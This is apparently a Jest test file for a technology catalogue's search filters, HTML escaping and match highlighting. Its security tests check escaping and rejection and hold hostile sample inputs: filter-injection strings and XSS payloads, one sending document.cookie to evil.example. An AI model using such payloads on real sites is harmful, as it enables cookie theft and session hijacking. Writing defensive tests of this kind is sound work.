import { CatalogueQuery } from '@lib/contracts';
import { catalogueFilter, escapeHtml, highlighted } from './catalogue-search';

/** The markers Meilisearch is asked to put around matches (private-use characters). */
const PRE = '\uE000';
const POST = '\uE001';

/** A query as the validation pipe would hand it over: defaults filled in, then the given fields. */
function query(fields: Partial<CatalogueQuery> = {}): CatalogueQuery {
  return Object.assign(new CatalogueQuery(), fields);
}

describe('catalogueFilter', () => {
  it('is empty without filters (q, sort and paging are not filters)', () => {
    expect(catalogueFilter(query())).toEqual([]);
    expect(catalogueFilter(query({ q: '风洞', sort: 'newest', page: 3, pageSize: 7 }))).toEqual([]);
  });

  it('filters one field and several fields with IN', () => {
    expect(catalogueFilter(query({ field: ['aerodynamics'] }))).toEqual(['field IN ["aerodynamics"]']);
    expect(catalogueFilter(query({ field: ['lasers_optics', 'nuclear', 'other'] }))).toEqual(['field IN ["lasers_optics", "nuclear", "other"]']);
  });

  it('ignores an empty field or mode list', () => {
    expect(catalogueFilter(query({ field: [], mode: [] }))).toEqual([]);
  });

  it('filters the direction', () => {
    expect(catalogueFilter(query({ direction: 'mil_to_civ' }))).toEqual(['direction = "mil_to_civ"']);
    expect(catalogueFilter(query({ direction: 'civ_to_mil' }))).toEqual(['direction = "civ_to_mil"']);
  });

  it('filters TRL from below, from above and both, inclusive', () => {
    expect(catalogueFilter(query({ trlMin: 4 }))).toEqual(['trl >= 4']);
    expect(catalogueFilter(query({ trlMax: 7 }))).toEqual(['trl <= 7']);
    expect(catalogueFilter(query({ trlMin: 1, trlMax: 9 }))).toEqual(['trl >= 1', 'trl <= 9']);
    expect(catalogueFilter(query({ trlMin: 5, trlMax: 5 }))).toEqual(['trl >= 5', 'trl <= 5']);
  });

  it('filters an IPC prefix at every level by exact match on the indexed prefixes', () => {
    for (const ipc of ['G', 'G01', 'G01S', 'G01S 7', 'G01S 7/48']) {
      expect(catalogueFilter(query({ ipc }))).toEqual([`ipcPrefixes = "${ipc}"`]);
    }
  });

  it('filters transaction modes with IN (any of them)', () => {
    expect(catalogueFilter(query({ mode: ['transfer'] }))).toEqual(['transactionModes IN ["transfer"]']);
    expect(catalogueFilter(query({ mode: ['exclusive_licence', 'equity_investment'] }))).toEqual([
      'transactionModes IN ["exclusive_licence", "equity_investment"]',
    ]);
  });

  it('filters prices in integer fen, converting yuan without floating point', () => {
    expect(catalogueFilter(query({ priceMin: '100000' }))).toEqual(['askingPriceFen >= 10000000']);
    expect(catalogueFilter(query({ priceMax: '0.1' }))).toEqual(['askingPriceFen <= 10']);
    expect(catalogueFilter(query({ priceMin: '0.29', priceMax: '1250000.05' }))).toEqual(['askingPriceFen >= 29', 'askingPriceFen <= 125000005']);
    expect(catalogueFilter(query({ priceMax: '9999999999999.99' }))).toEqual(['askingPriceFen <= 999999999999999']);
    expect(catalogueFilter(query({ priceMin: '0' }))).toEqual(['askingPriceFen >= 0']);
  });

  it('filters hasEvaluation true and false (false is not dropped as falsy)', () => {
    expect(catalogueFilter(query({ hasEvaluation: true }))).toEqual(['hasEvaluation = true']);
    expect(catalogueFilter(query({ hasEvaluation: false }))).toEqual(['hasEvaluation = false']);
  });

  it('filters by evaluation grade', () => {
    expect(catalogueFilter(query({ grade: ['A', 'B'] }))).toEqual(['evaluationGrade IN ["A", "B"]']);
  });

  it('combines every filter with AND (one array element each), in a fixed order', () => {
    expect(
      catalogueFilter(
        query({
          q: 'laser',
          field: ['lasers_optics', 'new_materials'],
          direction: 'civ_to_mil',
          trlMin: 3,
          trlMax: 8,
          ipc: 'H01S',
          mode: ['transfer', 'joint_development'],
          priceMin: '1000.50',
          priceMax: '2000000',
          hasEvaluation: false,
          sort: 'price_asc',
        }),
      ),
    ).toEqual([
      'field IN ["lasers_optics", "new_materials"]',
      'direction = "civ_to_mil"',
      'trl >= 3',
      'trl <= 8',
      'ipcPrefixes = "H01S"',
      'transactionModes IN ["transfer", "joint_development"]',
      'askingPriceFen >= 100050',
      'askingPriceFen <= 200000000',
      'hasEvaluation = false',
    ]);
  });

  it('quotes string values so that quotes and backslashes cannot break out of the literal', () => {
    const hostile = 'x" OR field EXISTS OR field = "y';
    expect(catalogueFilter(query({ direction: hostile as never }))).toEqual(['direction = "x\\" OR field EXISTS OR field = \\"y"']);
    expect(catalogueFilter(query({ field: ['a\\', '"'] as never }))).toEqual(['field IN ["a\\\\", "\\""]']);
    expect(catalogueFilter(query({ ipc: 'G01S\\" OR trl > 0' }))).toEqual(['ipcPrefixes = "G01S\\\\\\" OR trl > 0"']);
    expect(catalogueFilter(query({ mode: ['transfer"]'] as never }))).toEqual(['transactionModes IN ["transfer\\"]"]']);
  });

  it('refuses a price that is not an amount in yuan instead of building a filter from it', () => {
    expect(() => catalogueFilter(query({ priceMin: 'abc' }))).toThrow();
    expect(() => catalogueFilter(query({ priceMax: '1 OR 1=1' }))).toThrow();
    expect(() => catalogueFilter(query({ priceMax: '-5' }))).toThrow();
  });
});

describe('escapeHtml', () => {
  it('escapes the five HTML-significant characters', () => {
    expect(escapeHtml(`<a href="x" title='y'>Tom & Jerry</a>`)).toBe('&lt;a href=&quot;x&quot; title=&#39;y&#39;&gt;Tom &amp; Jerry&lt;/a&gt;');
  });

  it('escapes an ampersand first, so existing entities are shown, not interpreted', () => {
    expect(escapeHtml('&lt;script&gt;')).toBe('&amp;lt;script&amp;gt;');
    expect(escapeHtml('&&')).toBe('&amp;&amp;');
  });

  it('leaves other text, Chinese included, unchanged', () => {
    expect(escapeHtml('高超声速风洞气动测试技术 G01S 7/48 (TRL 6)')).toBe('高超声速风洞气动测试技术 G01S 7/48 (TRL 6)');
    expect(escapeHtml('')).toBe('');
  });
});

describe('highlighted', () => {
  it('turns the match markers into <mark> and escapes everything else', () => {
    const formatted = `耐高温<script>alert("x")</script> ${PRE}激光${POST}器 & <b>${PRE}laser${POST}</b>`;
    expect(highlighted(formatted)).toBe(
      '耐高温&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; <mark>激光</mark>器 &amp; &lt;b&gt;<mark>laser</mark>&lt;/b&gt;',
    );
  });

  it('returns a title with <script> escaped, with <mark> as the only HTML', () => {
    const title = `<script>document.location='//evil.example/'+document.cookie</script>${PRE}风洞${POST}<img src=x onerror=alert(1)>`;
    const html = highlighted(title);
    expect(html.replace(/<\/?mark>/g, '')).not.toMatch(/[<>"']/);
    expect(html.match(/<[^>]*>/g)).toEqual(['<mark>', '</mark>']);
    expect(html).toBe(
      '&lt;script&gt;document.location=&#39;//evil.example/&#39;+document.cookie&lt;/script&gt;<mark>风洞</mark>&lt;img src=x onerror=alert(1)&gt;',
    );
  });

  it('cannot be tricked by text that looks like a mark tag', () => {
    expect(highlighted('<mark>not a match</mark>')).toBe('&lt;mark&gt;not a match&lt;/mark&gt;');
  });

  it('marks several matches and leaves text without matches escaped only', () => {
    expect(highlighted(`${PRE}a${POST} < ${PRE}b${POST}`)).toBe('<mark>a</mark> &lt; <mark>b</mark>');
    expect(highlighted('no match <here>')).toBe('no match &lt;here&gt;');
  });
});
